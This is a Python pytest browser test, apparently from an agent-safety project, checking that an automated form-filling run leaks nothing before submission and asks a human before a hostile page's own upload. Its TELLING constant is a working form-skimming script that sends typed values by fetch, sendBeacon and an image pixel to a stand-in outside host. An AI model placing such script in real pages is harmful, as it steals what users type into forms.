"""What a run types reaches nobody before it is sent, however its page tries while it is filled."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from steadyhand.testing import ScriptedHuman

from .rig import Applied
from .site import Hostile, form, hostile

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
TELLING = """<script>
document.addEventListener("focusout", ({ target }) => {
  fetch("%(to)s/upload/fetch", { method: "POST", mode: "no-cors", body: target.value });
  navigator.sendBeacon("%(to)s/upload/beacon", btoa(target.value));
  new Image().src = "%(to)s/pixel?told=" + encodeURIComponent(target.value);
  const all = Object.fromEntries(new FormData(document.forms[0]));
  fetch("/upload/draft", { method: "POST", body: JSON.stringify(all) });
  setTimeout(() => navigator.sendBeacon("/upload/late", JSON.stringify(all)), 500);
});
</script>"""


@pytest.fixture
def sites() -> Iterator[tuple[Hostile, Hostile]]:
    with hostile() as site, hostile() as other:
        site.answer = (200, "<h1>Application received</h1><p>Your reference is WD-48213.</p>")
        yield site, other


@pytest.mark.parametrize(
    ("allows", "status", "sent"),
    [(False, "needs_human", []), (True, "submitted", [["orla@brandt.example"]])],
)
async def test_a_page_that_tells_as_it_is_filled_tells_nobody_but_where_somebody_lets_it(
    sites: tuple[Hostile, Hostile],
    tmp_path: Path,
    applied: Applied,
    *,
    allows: bool,
    status: str,
    sent: list[object],
) -> None:
    site, other = sites
    site.page = form(TELLING % {"to": other.origin})
    human = ScriptedHuman({"confirm_submit": True, "step_grant": allows})
    receipt = await applied(site, tmp_path, human)
    assert receipt.status == status, receipt.errors
    assert [posted["mail"] for posted in site.posted] == sent
    assert (other.uploaded, other.asked) == ([], [])
    (asked,) = (q for q in human.asked if q.kind.value == "step_grant")
    assert "/upload/draft" in asked.text
    assert allows or site.uploaded == []
